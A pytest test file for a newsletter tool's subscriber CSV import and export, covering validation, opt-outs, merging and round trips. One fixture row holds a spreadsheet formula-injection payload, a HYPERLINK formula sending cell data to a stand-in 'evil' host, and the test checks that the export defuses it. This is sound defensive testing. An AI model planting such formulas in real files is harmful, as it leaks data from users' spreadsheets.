"""CSV import and export: every bad row named with its line, the good rows in, opt-outs respected,
and a lossless round trip."""

from __future__ import annotations

import json

import pytest

CSV_HEADER = "email,name,topics,frequency,timezone\n"


@pytest.fixture
def db(run):
    assert run("init").exit_code == 0
    return run


def emails(run, status=None):
    args = ["subscribers", "list", "--json"] + (["--status", status] if status else [])
    return {s["email"]: s for s in json.loads(run(*args).stdout)}


def test_every_bad_row_is_named_and_the_good_rows_are_imported(db, tmp_path):
    run = db
    run("subscribers", "add", "gone@example.org", "--topic", "World")
    run("subscribers", "unsubscribe", "gone@example.org")
    f = tmp_path / "list.csv"
    f.write_bytes((
        CSV_HEADER
        + "ada@Example.ORG,Ada,Europe,daily,Europe/Berlin\n"          # 2 ok, domain lower-cased
        + "not-an-address,Bad,World,,\n"                              # 3 invalid address
        + "cy@example.org,Cy,Sports,,\n"                              # 4 unknown topic
        + "dee@example.org,Dee,World,hourly,\n"                       # 5 bad frequency
        + "eve@example.org,Eve,World,,Mars/Olympus\n"                 # 6 bad timezone
        + "fay@example.org,Fay,,,\n"                                  # 7 no topics
        + "ADA@example.org,,Politics;World,,\n"                       # 8 duplicate: merged
        + "gone@example.org,Gone,Europe,,\n"                          # 9 unsubscribed: skipped
        + "hal@example.org,Hal,\"Europe; politics\",weekly,\n"        # 10 ok, topic by slug
    ).encode() + "ivo@example.org,Iv\u00f6,World,,\n".encode("latin-1"))  # 11 not UTF-8
    r = run("subscribers", "import", f)
    assert r.exit_code == 1
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert [e.split(":")[2] for e in errors] == ["3", "4", "5", "6", "7", "11"], r.stderr
    assert "not-an-address" in errors[0] and 'topic "Sports" does not exist. Known topics' in errors[1]
    assert "hourly" in errors[2] and "Mars/Olympus" in errors[3] and "no topics" in errors[4]
    assert "not UTF-8" in errors[5]
    assert "2 new, 0 updated, 0 unchanged, 1 skipped (opted out), 1 duplicates merged, 6 failed" in r.stderr
    subs = emails(run)
    assert set(subs) == {"ada@example.org", "hal@example.org", "gone@example.org"}
    ada = subs["ada@example.org"]
    assert ada["topics"] == ["Europe", "Politics", "World"] and ada["name"] == "Ada"
    assert ada["timezone"] == "Europe/Berlin"
    assert subs["hal@example.org"]["topics"] == ["Europe", "Politics"] and subs["hal@example.org"]["frequency"] == "weekly"
    gone = subs["gone@example.org"]
    assert gone["status"] == "unsubscribed" and gone["topics"] == ["World"]   # never re-subscribed


def test_a_latin1_file_fails_only_its_non_ascii_rows(db, tmp_path):
    f = tmp_path / "latin1.csv"
    f.write_bytes((CSV_HEADER + "zoe@example.org,Zo\u00eb,World,,\nab@example.org,Ab,World,,\n").encode("latin-1"))
    r = db("subscribers", "import", f)
    assert r.exit_code == 1
    assert f"{f}:2: not UTF-8" in r.stderr and "save the file as UTF-8" in r.stderr
    assert set(emails(db)) == {"ab@example.org"}


def test_a_file_without_an_email_column_imports_nothing(db, tmp_path):
    f = tmp_path / "nocol.csv"
    f.write_text("address,name,topics\nada@example.org,Ada,World\n")
    r = db("subscribers", "import", f)
    assert r.exit_code == 1 and f"{f}:1: no `email` column" in r.stderr
    assert emails(db) == {}


def test_dry_run_reports_and_writes_nothing(db, tmp_path):
    db("subscribers", "add", "old@example.org", "--topic", "World")
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "new@example.org,New,World,,\nold@example.org,Old,Europe,,\n")
    r = db("subscribers", "import", f, "--dry-run")
    assert r.exit_code == 0 and "would import 1 new, 1 updated" in r.stderr
    subs = emails(db)
    assert set(subs) == {"old@example.org"} and subs["old@example.org"]["topics"] == ["World"]


def test_suppressed_and_bounced_addresses_are_skipped_too(db, tmp_path):
    db("subscribers", "suppress", "never@example.org")
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "never@example.org,Never,World,,\n")
    r = db("subscribers", "import", f)
    assert r.exit_code == 0 and "1 skipped" in r.stderr
    assert emails(db)["never@example.org"]["status"] == "suppressed"


def test_export_round_trips_through_import_unchanged(db, tmp_path, monkeypatch):
    run = db
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER
                 + 'ada@example.org,"Lovelace, Ada",Europe;World,weekly,Europe/London\n'
                 + 'mal@example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",World,,\n'
                 + "q@example.org,'quoted,Politics,daily,\n"
                 + "neg@example.org,-5 ways,Politics,,America/New_York\n")
    assert run("subscribers", "import", f).exit_code == 0
    run("subscribers", "add", "bye@example.org", "--topic", "Europe")
    run("subscribers", "unsubscribe", "bye@example.org")
    first = run("subscribers", "export")
    assert first.exit_code == 0 and "Exported 5 subscribers" in first.stderr
    # A spreadsheet would run these as formulas: the export defuses them with one apostrophe.
    assert "'=HYPERLINK(" in first.stdout and "'-5 ways" in first.stdout
    for line in first.stdout.splitlines()[1:]:
        assert line.split(",")[1][:1] not in ("=", "+", "-", "@")
    (tmp_path / "export.csv").write_text(first.stdout)

    monkeypatch.setenv("DIGEST_DB", str(tmp_path / "fresh.db"))
    assert run("init").exit_code == 0
    r = run("subscribers", "import", tmp_path / "export.csv")
    assert r.exit_code == 0, r
    assert emails(run)["mal@example.org"]["name"].startswith('=HYPERLINK("http://evil.example')
    assert emails(run)["q@example.org"]["name"] == "'quoted"
    assert emails(run)["bye@example.org"]["status"] == "unsubscribed"
    assert run("subscribers", "export").stdout == first.stdout


def test_export_filters_by_topic(db, tmp_path):
    db("subscribers", "add", "a@example.org", "--topic", "Europe")
    db("subscribers", "add", "b@example.org", "--topic", "World")
    out = db("subscribers", "export", "--topic", "Europe").stdout.splitlines()
    assert out == ["email,name,topics,frequency,timezone,send_at,status,language", "a@example.org,,Europe,daily,,,active,"]


@pytest.mark.slow
def test_a_large_import_is_batched_and_complete(db, tmp_path):
    n = 20_000
    f = tmp_path / "big.csv"
    f.write_text(CSV_HEADER + "".join(f"user{i}@Example.org,User {i},World;Europe,,\n" for i in range(n)))
    r = db("subscribers", "import", f)
    assert r.exit_code == 0 and f"{n} new" in r.stderr
    assert len(db("subscribers", "export", "--topic", "Europe").stdout.splitlines()) == n + 1


@pytest.mark.slow
def test_a_large_import_reads_past_a_bad_row_and_merges_across_batches(db, tmp_path):
    """20,000 rows (four write batches): a bad address in the middle is named with its line and
    every other row is in; an address repeated 19,000 lines later is merged into its first row."""
    n = 20_000
    rows = [f"user{i}@example.org,User {i},World;Europe,,\n" for i in range(n)]
    rows[10_000] = "user10000@@example.org,Broken,World,,\n"       # line 10,002
    f = tmp_path / "big.csv"
    f.write_text(CSV_HEADER + "".join(rows) + "USER5@example.org,,Politics,weekly,\n")
    r = db("subscribers", "import", f)
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert r.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"Error: {f}:10002: "), r
    assert f"{n - 1} new" in r.stderr and "1 duplicates merged" in r.stderr and "1 failed" in r.stderr, r
    europe = db("subscribers", "export", "--topic", "Europe").stdout.splitlines()
    assert len(europe) == n and not any(ln.startswith("user10000@") for ln in europe)
    politics = db("subscribers", "export", "--topic", "Politics").stdout.splitlines()[1:]
    assert politics == ["user5@example.org,User 5,Europe;Politics;World,weekly,,,active,"]
    again = db("subscribers", "import", f)
    assert f"0 new, 0 updated, {n - 1} unchanged" in again.stderr, again


def test_the_fast_address_check_agrees_with_email_validator():
    from email_validator import EmailNotValidError, validate_email

    from digest.errors import InvalidAddress
    from digest.lists.subscriber_fields import normalize_email

    def full(a):
        try:
            local, _, domain = validate_email(a, check_deliverability=False).normalized.rpartition("@")
            # ...except a local part that is not ASCII, refused on purpose: it would need SMTPUTF8.
            return f"{local}@{domain.lower()}" if local.isascii() else None
        except EmailNotValidError:
            return None

    def ours(a):
        try:
            return normalize_email(a)
        except InvalidAddress:
            return None

    cases = ["a@Example.ORG", "a..b@x.org", ".a@x.org", "a.@x.org", "a@localhost", "a@x.invalid", "a@x",
             "a@-x.org", "a@x_y.org", "a@bücher.example", "ä@x.org", '"a b"@x.org', "x" * 65 + "@x.org",
             "a@x.org.", "=x@x.org", "a@b@c.org", "@x.org", "a@", "a@x..org", "a@1.2.3.4", "a@x.test",
             "x" * 64 + "@" + "y" * 63 + "." + "z" * 63 + "." + "w" * 63 + ".org"]
    # Where we differ on purpose: email-validator takes a local part over RFC 5321's 64 octets.
    expected = [None if len(a.rpartition("@")[0].encode()) > 64 else full(a) for a in cases]
    assert [ours(a) for a in cases] == expected


# ---- a re-import never overrides what a subscriber chose (issue 12, item 2) --------------------------

ORIGINAL = (CSV_HEADER
            + "ada@example.org,Ada,Europe;Politics;World,daily,Europe/Berlin\n"
            + "cy@example.org,Cy Young,World,weekly,Europe/Paris\n"
            + "gone@example.org,Gone,World,,\n"
            + "new@example.org,New,Europe,,\n")


def test_a_reimport_keeps_what_subscribers_chose_and_fills_empty_fields(db, tmp_path):
    run = db
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + ORIGINAL.splitlines(keepends=True)[1])
    assert run("subscribers", "import", f).exit_code == 0
    # Ada drops two topics and moves to weekly, in Tokyo, at 07:30; Cy was added by hand, bare.
    run("subscribers", "unsubscribe", "ada@example.org", "Politics", "World")
    run("subscribers", "set", "ada@example.org", "--frequency", "weekly", "--timezone", "Asia/Tokyo",
        "--send-at", "07:30")
    run("subscribers", "add", "cy@example.org", "--topic", "Europe")
    run("subscribers", "add", "gone@example.org", "--topic", "World")
    run("subscribers", "unsubscribe", "gone@example.org")
    before = emails(run)

    f.write_text(ORIGINAL)
    dry = run("subscribers", "import", f, "--dry-run")
    assert dry.exit_code == 0, dry
    assert emails(run) == before                                # a dry run writes nothing
    lines = {ln.split()[1]: ln for ln in dry.stdout.splitlines()[2:]}
    assert set(lines) == {"ada@example.org", "cy@example.org", "gone@example.org", "new@example.org"}
    assert lines["new@example.org"].split()[:3] == ["5", "new@example.org", "add"]
    ada = lines["ada@example.org"]
    assert "kept topics Europe (file: Europe, Politics, World)" in ada and "kept frequency weekly (file: daily)" in ada
    assert "kept timezone Asia/Tokyo (file: Europe/Berlin)" in ada
    cy = lines["cy@example.org"]
    assert "name -> Cy Young" in cy and "timezone -> Europe/Paris" in cy and "kept frequency daily (file: weekly)" in cy
    assert "skip" in lines["gone@example.org"] and "unsubscribed" in lines["gone@example.org"]
    assert "would import 1 new, 1 updated, 1 unchanged, 1 skipped (opted out)" in dry.stderr
    assert "2 rows differ from values on file" in dry.stderr and "--overwrite" in dry.stderr

    r = run("subscribers", "import", f)
    assert r.exit_code == 0 and "imported 1 new, 1 updated, 1 unchanged, 1 skipped" in r.stderr
    after = json.loads(run("subscribers", "show", "ada@example.org", "--json").stdout)
    assert (after["topics"], after["frequency"], after["timezone"], after["send_at"]) == (
        ["Europe"], "weekly", "Asia/Tokyo", "07:30")
    cy = json.loads(run("subscribers", "show", "cy@example.org", "--json").stdout)
    assert (cy["name"], cy["timezone"], cy["topics"], cy["frequency"]) == ("Cy Young", "Europe/Paris", ["Europe"],
                                                                           "daily")
    assert emails(run)["gone@example.org"]["status"] == "unsubscribed"
    assert emails(run)["new@example.org"]["topics"] == ["Europe"]


def test_overwrite_replaces_choices_but_never_resubscribes_an_opt_out(db, tmp_path):
    run = db
    run("subscribers", "add", "ada@example.org", "--topic", "Europe", "--frequency", "weekly",
        "--timezone", "Asia/Tokyo")
    run("subscribers", "add", "gone@example.org", "--topic", "World")
    run("subscribers", "unsubscribe", "gone@example.org")
    f = tmp_path / "list.csv"
    f.write_text(ORIGINAL)
    r = run("subscribers", "import", f, "--overwrite")
    assert r.exit_code == 0 and "1 skipped (opted out)" in r.stderr
    ada = json.loads(run("subscribers", "show", "ada@example.org", "--json").stdout)
    assert (ada["topics"], ada["frequency"], ada["timezone"], ada["name"]) == (
        ["Europe", "Politics", "World"], "daily", "Europe/Berlin", "Ada")
    gone = emails(run)["gone@example.org"]
    assert gone["status"] == "unsubscribed" and gone["topics"] == ["World"]


def test_an_import_may_record_an_opt_out(db, tmp_path):
    db("subscribers", "add", "ada@example.org", "--topic", "Europe")
    f = tmp_path / "list.csv"
    f.write_text("email,topics,status\nada@example.org,,unsubscribed\n")
    assert db("subscribers", "import", f).exit_code == 0
    assert emails(db)["ada@example.org"]["status"] == "unsubscribed"


# ---- export carries every field (issue 12, item 3) ---------------------------------------------------

def test_every_field_survives_export_import_export(db, tmp_path, monkeypatch):
    run = db
    run("subscribers", "add", "ada@example.org", "--topic", "Europe", "--topic", "World", "--name", "Ada Lovelace",
        "--frequency", "weekly", "--timezone", "Europe/London")
    run("subscribers", "set", "ada@example.org", "--send-at", "06:45")
    run("subscribers", "add", "bo@example.org", "--topic", "Politics")
    run("subscribers", "unsubscribe", "bo@example.org")
    run("subscribers", "suppress", "never@example.org")
    f = tmp_path / "more.csv"
    f.write_text("email,name,topics,status,send_at\npen@example.org,Pen,World,pending,21:00\n"
                 "bad@example.org,,World,bounced,\n")
    assert run("subscribers", "import", f).exit_code == 0
    first = run("subscribers", "export")
    assert first.stdout.splitlines()[0] == "email,name,topics,frequency,timezone,send_at,status,language"
    assert "ada@example.org,Ada Lovelace,Europe;World,weekly,Europe/London,06:45,active" in first.stdout
    assert "pen@example.org,Pen,World,daily,,21:00,pending" in first.stdout
    (tmp_path / "all.csv").write_text(first.stdout)
    monkeypatch.setenv("DIGEST_DB", str(tmp_path / "fresh.db"))
    assert run("init").exit_code == 0
    assert run("subscribers", "import", tmp_path / "all.csv").exit_code == 0
    assert run("subscribers", "export").stdout == first.stdout
    ada = json.loads(run("subscribers", "show", "ada@example.org", "--json").stdout)
    assert ada["send_at"] == "06:45"


# ---- CSV faults (issue 15, item 10) ----------------------------------------------------------------

def test_names_with_a_lone_cr_or_lf_survive_the_round_trip(db, tmp_path, monkeypatch):
    run = db
    names = ["Ann\rLee", "Bo\nBerg", "Cy\r\nCole", "Di", "Ed\r\rWard"]
    for i, name in enumerate(names):
        run("subscribers", "add", f"p{i}@example.org", "--topic", "World", "--name", name)
    first = run("subscribers", "export").stdout_bytes
    (tmp_path / "x.csv").write_bytes(first)
    monkeypatch.setenv("DIGEST_DB", str(tmp_path / "fresh.db"))
    assert run("init").exit_code == 0
    r = run("subscribers", "import", tmp_path / "x.csv")
    assert r.exit_code == 0 and "5 new" in r.stderr, r
    assert [s["name"] for s in json.loads(run("subscribers", "list", "--json").stdout)] == names[::-1]   # newest first
    assert run("subscribers", "export").stdout_bytes == first


@pytest.mark.parametrize("closing", ["", 'z@example.org,"Zed, Z",World,,\n'])
def test_a_stray_quote_names_its_line_and_the_rows_after_it_are_imported(db, tmp_path, closing):
    """The quote on line 3 is never closed, or only by the quotes of a later, good row."""
    later = [f"g{i}@example.org,G{i},World,,\n" for i in range(7)]
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "ada@example.org,Ada,World,,\n" + 'bo@example.org,"Bo,World,,\n' + "".join(later)
                 + closing)
    r = db("subscribers", "import", f)
    assert r.exit_code == 1
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert len(errors) == 1 and errors[0].startswith(f"Error: {f}:3: a quote opened in this row"), r
    assert set(emails(db)) == {"ada@example.org"} | {f"g{i}@example.org" for i in range(7)} | (
        {"z@example.org"} if closing else set())
    if closing:
        assert emails(db)["z@example.org"]["name"] == "Zed, Z"


def test_a_field_over_the_csv_limit_names_its_own_line(db, tmp_path):
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "ada@example.org,Ada,World,,\n" + "bo@example.org,Bo,World,,\n"
                 + "huge@example.org," + "x" * 200_000 + ",World,,\n" + "cy@example.org,Cy,World,,\n")
    r = db("subscribers", "import", f)
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert r.exit_code == 1 and len(errors) == 1 and errors[0].startswith(f"Error: {f}:4: not valid CSV"), r
    assert set(emails(db)) == {"ada@example.org", "bo@example.org", "cy@example.org"}


def test_a_local_part_over_64_octets_is_refused(db, tmp_path):
    f = tmp_path / "list.csv"
    f.write_text(CSV_HEADER + "x" * 65 + "@example.org,,World,,\n" + "é" * 33 + "@example.org,,World,,\n"
                 + "x" * 64 + "@example.org,,World,,\n", encoding="utf-8")
    r = db("subscribers", "import", f)
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("Error:")]
    assert r.exit_code == 1 and [e.split(":")[2] for e in errors] == ["2", "3"], r
    assert "65 bytes" in errors[0] and "not ASCII" in errors[1]      # non-ASCII local parts are refused anyway
    assert set(emails(db)) == {"x" * 64 + "@example.org"}
    assert db("subscribers", "add", "é" * 33 + "@example.org", "--topic", "World").exit_code == 1
